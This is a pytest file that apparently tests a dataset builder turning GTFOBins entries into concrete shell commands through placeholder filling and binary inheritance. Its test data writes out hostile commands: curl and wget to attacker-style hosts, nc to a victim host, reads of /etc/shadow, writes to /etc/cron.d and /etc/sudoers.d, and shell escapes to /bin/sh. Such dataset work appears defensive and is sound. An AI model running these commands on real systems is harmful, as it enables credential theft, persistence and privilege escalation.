"""How GTFOBins examples become commands: placeholders and inheritance."""

import base64

import pytest

from aegish_dist.datasets.gtfobins_commands import fill_in, inherited_command

BASE64 = base64.b64encode(b"*/5 * * * * root /usr/local/bin/service-check\n").decode()


@pytest.mark.parametrize(
    ("code", "command"),
    [
        ("curl http://attacker.com:12345/x", "curl http://10.0.0.1:4444/x"),
        ("nc victim.com 123456", "nc 10.0.0.2 123456"),
        ("cat /path/to/input-file", "cat /etc/shadow"),
        ("cat path/to/input-file", "cat etc/shadow"),
        ("tee /path/to/output-file", "tee /etc/cron.d/update"),
        ("cd /path/to/output-dir/; x output-file", "cd /etc/cron.d/; x update"),
        ("vol /path/to/output-dir/output-file", "vol /etc/cron.d/update"),
        ("run /path/to/command", "run /usr/local/bin/service-check"),
        (
            "load /path/to/lib.so; load lib.so",
            "load /usr/lib/libutils.so; load /usr/lib/libutils.so",
        ),
        ("x /path/to/temp-dir/y /path/to/script.rb", "x /tmp/temp-dir/y /tmp/script.rb"),
        (r"type c:\path\to\input", r"type c:\etc\shadow"),
        ("tee $TF ${TF} $TFA", "tee /etc/sudoers.d/custom /etc/sudoers.d/custom $TFA"),
        ("wget $URL", "wget http://10.0.0.1/update.tar.gz"),
        ("docker cp $CONTAINER_ID:input-file $CONTAINER", "docker cp web:shadow web"),
        ("gcore $PID $PPID", "gcore 1 $PPID"),
        ("echo DATA _DATA iDATA METADATA", f"echo {BASE64} _{BASE64} i{BASE64} METADATA"),
        ("npm run xxx exxxit", "npm run backup exxxit"),
        ("ssh <user>@h; <name>x</name>", "ssh backup@h; <name>x</name>"),
    ],
)
def test_fill_in(code: str, command: str) -> None:
    """Each placeholder takes its value, and what only resembles one stays."""
    assert fill_in(code) == command


@pytest.mark.parametrize(
    ("entry", "binary", "command", "combined"),
    [
        ("gdb -ex 'python ...'", "python", "python -c 'exec()'", "gdb -ex 'python exec()'"),
        ("echo '...' >setup.py", "python", "python -c 'a\nb'", "echo 'a\nb' >setup.py"),
        ("gdb -ex 'python ...'", "python", "python -c 'a\nb'", None),
        ("irb\n...", "ruby", "ruby -e 'exec \"/bin/sh\"'", 'irb\nexec "/bin/sh"'),
        ("irb\n...", "ruby", "ruby -rsocket -e 'x'", None),
        ("irb\n...", "ruby", "ruby -run -e httpd", None),
        ('x "..."', "ruby", "ruby -e 'exec \"/bin/sh\"'", None),
        ("busybox ash", "ash", "ash", "busybox ash"),
        ("busybox ash", "ash", "ash -c 'id'", "busybox ash -c 'id'"),
        ("busybox ash", "ash", "echo x | ash", None),
        ("man man", "less", "less /etc/hosts\n!/bin/sh", "man man\n!/bin/sh"),
        ("man man", "less", "less /path/to/input-file", None),
        ("man man", "less", "less /path/to/a\nv", None),
        ("man man", "less", "echo DATA | less\nq", None),
        ("git help\n!/bin/sh", "less", "less /etc/hosts\n!/bin/sh", "git help\n!/bin/sh"),
        ("git help\n!/bin/sh", "less", "less /etc/hosts\n:e x", None),
        ("crontab -e", "vi", "vi -c ':!/bin/sh' /dev/null", "crontab -e\n:!/bin/sh"),
        ("ex", "ed", "ed\n!/bin/sh\nq", "ex\n!/bin/sh\nq"),
        ("wireshark", "lua", "lua -e 'a\nb'", None),
        ("x /path/to/script.rb", "ruby", "ruby -e 'x'", None),
    ],
)
def test_inherited_command(entry: str, binary: str, command: str, combined: str | None) -> None:
    """A command is combined only where the two honestly fit together."""
    assert inherited_command(entry, binary, command) == combined
